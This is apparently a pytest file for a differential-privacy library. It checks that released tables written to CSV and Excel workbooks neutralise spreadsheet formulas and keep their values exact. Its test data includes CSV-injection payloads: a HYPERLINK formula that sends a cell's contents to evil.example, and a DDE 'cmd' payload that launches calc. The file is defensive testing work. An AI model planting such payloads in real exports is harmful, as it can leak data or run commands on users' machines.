"""Releases as frames, columns and files: the same numbers everywhere, and no formula where a text is meant."""

import csv
import datetime as dt
import io
import math
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

import sfumato as sf
from sfumato.display.formatting import guard_formula, unguard_formula
from sfumato.release.release_files import with_formulas, without_formulas

pytestmark = pytest.mark.noise_cannot_matter("texts are compared, whatever the numbers are")

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"more")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠1",
    "=cmd|' /C calc'!A0", "-5", "+49 30 1234",
]  # fmt: skip
TEXTS = [
    *FORMULAS,
    *(f"'{text}" for text in FORMULAS),
    "''=1",
    "'",
    "''",
    "'t Hof",
    "Ulm",
    "",
    "NA",
    "a=1",
    " =1",
    "1",
]
NAME = '=HYPERLINK("x")'
ROWS = pa.table({"id": range(len(TEXTS)), "k": TEXTS, "v": [-7] * len(TEXTS)})


def released(**more: Any) -> Any:
    table = sf.scan(ROWS.rename_columns(["id", NAME, "v"]), privacy_unit="id").group_by(NAME, keys=TEXTS)
    asked = {"n": sf.count(), "-s": sf.sum("v", lower=-10, upper=0), "m": sf.mean("v", lower=-10, upper=0)}
    return table.bound(groups=1, rows=1).agg(**asked).release(epsilon=1_000, **more)


def is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def harmless(text: str) -> list[list[str]]:
    """Read CSV, and fail where a cell is a formula; numbers, negative ones too, stand as they are."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    quoted = text.replace('""', "")
    for cell in (cell for row in rows for cell in row):
        # A number is one only outside quotes: a text that looks like one is guarded, too.
        bare = is_number(cell) and f'"{cell}"' not in quoted
        assert bare or not cell.startswith(tuple("=+-@\t\r\n＝＋－＠")), cell
    return rows


def test_every_text_comes_back() -> None:
    for text in TEXTS:
        assert unguard_formula(guard_formula(text)) == text and (guard_formula(text) == text) == (
            text.lstrip("'")[:1] not in "=+-@\t\r\n＝＋－＠" or not text.strip("'")
        )
    for kind in (pa.string(), pa.large_string(), pa.string_view(), pa.dictionary(pa.int32(), pa.string())):
        column = (
            pa.array([*TEXTS, None]).cast(kind)
            if not pa.types.is_dictionary(kind)
            else pa.array([*TEXTS, None]).dictionary_encode()
        )
        batch = without_formulas(
            pa.RecordBatch.from_arrays([column, pa.array([-1.5] * len(column))], ["=a", "-b"])
        )
        assert batch.schema.names == ["'=a", "'-b"] and batch.column(1).to_pylist() == [-1.5] * len(column)
        assert batch.column(0).to_pylist() == [*map(guard_formula, TEXTS), None]
        assert with_formulas(pa.chunked_array([batch.column(0)])).to_pylist() == [*TEXTS, None]


@pytest.mark.parametrize("streamed", [True, False])
def test_a_release_is_written_without_formulas_and_read_back_as_it_was(
    tmp_path: Path, streamed: bool
) -> None:
    release = released()
    if not streamed:
        release.to_arrow()
    release.write(tmp_path / "a.csv")
    rows = harmless((tmp_path / "a.csv").read_bytes().decode())
    assert rows[0] == [f"'{NAME}", "n", "'-s", "m"] and all(
        is_number(cell) for row in rows[1:] for cell in row[1:]
    )
    assert any(row[2].startswith("-") for row in rows[1:])
    table = release.to_arrow()
    assert sorted(table[NAME].to_pylist()) == sorted(TEXTS) and table.column_names == [NAME, "n", "-s", "m"]
    assert sorted(row[0] for row in rows[1:]) == sorted(map(guard_formula, TEXTS))
    receipt = release.receipt()
    assert receipt.verify(tmp_path / "a.csv").ok and receipt.verify(table).ok
    changed = (tmp_path / "a.csv").read_bytes().replace(b"'=1+1", b"'=1+2")
    (tmp_path / "b.csv").write_bytes(changed)
    assert not receipt.verify(tmp_path / "b.csv").ok


# Frames, rows and workbooks.


def looked_at(**options: Any) -> Any:
    data = {"id": [1, 2, 3, 4], "town": ["A", "A", "B", None], "x": [1.0, 2.0, 3.0, 4.0]}
    table = sf.scan(pa.table(data), privacy_unit="id").group_by("town", keys=["A", "B", None])
    asked = table.bound(groups=1, rows=1).agg(n=sf.count(), x=sf.mean("x", lower=0, upper=5))
    return asked.release(epsilon=1, **options)


def read(path: Path) -> tuple[list[list[Any]], dict[str, Any], list[list[str]]]:
    """The values of the first sheet, what the second says, and the types of the first's cells."""
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Release", "About"]
    rows = [[cell.value for cell in row] for row in book["Release"].iter_rows()]
    types = [[cell.data_type for cell in row] for row in book["Release"].iter_rows()]
    return rows, dict(book["About"].iter_rows(values_only=True)), types


def test_workbooks_have_bars_beside_numbers_and_say_what_they_are(tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter")
    release = looked_at()
    release.write(tmp_path / "n.xlsx")
    rows, about, _ = read(tmp_path / "n.xlsx")
    frame = release.frame(errors=True)
    assert rows[0] == ["town", "n", "n_error", "x", "x_error"]
    numbers = frame.drop(columns="town").to_numpy().tolist()
    for row, own in zip(rows[1:], numbers, strict=True):
        assert row[1:] == pytest.approx(own, rel=1e-15)  # sixteen digits
    assert (about["epsilon"], about["delta"], about["privacy unit"]) == ("1", "0", "id")
    assert any("0 to 5" in str(said) for said in about.values()) and len(about["plan, SHA-256"]) == 64
    assert "95%" in about["error bars"]


@pytest.mark.long
def test_values_of_a_workbook_are_what_they_were(tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter")
    from sfumato.release import release_files

    day, moment = dt.date(2024, 2, 29), dt.datetime(2024, 2, 29, 13, 59, 59, 250_000)
    columns = {
        "whole": pa.array([2**53, 2**53 + 1, None]),
        "real": pa.array([0.1, math.inf, math.nan]),
        "decimal": pa.array([Decimal("0.10"), Decimal("12345678901234567890.1234567890"), None], pa.decimal128(38, 10)),
        "day": pa.array([day, dt.date(1899, 12, 31), None]),
        "moment": pa.array([moment, moment + dt.timedelta(microseconds=1), None], pa.timestamp("us")),
        "zoned": pa.array([moment, None, None], pa.timestamp("us", tz="UTC")),
        "true": pa.array([True, False, None]),
        "long": pa.array(["x" * 40_000, "", None]),
    }  # fmt: skip
    release_files.write_workbook(tmp_path / "v.xlsx", pa.table(columns), [("a", "b")])
    rows, _, _ = read(tmp_path / "v.xlsx")
    found = dict(zip(rows[0], zip(*rows[1:], strict=True), strict=True))
    assert found["whole"] == (2**53, str(2**53 + 1), None) and found["real"] == (0.1, "inf", "nan")
    assert found["decimal"] == (0.1, "12345678901234567890.1234567890", None)
    assert found["day"] == (dt.datetime(2024, 2, 29), "1899-12-31", None)
    assert found["moment"] == (moment, "2024-02-29 13:59:59.250001", None)
    assert found["zoned"][0] == "2024-02-29 13:59:59.250000+00:00" and found["true"] == (True, False, None)
    assert len(found["long"][0]) == 32_001 and found["long"][1] in ("", None)
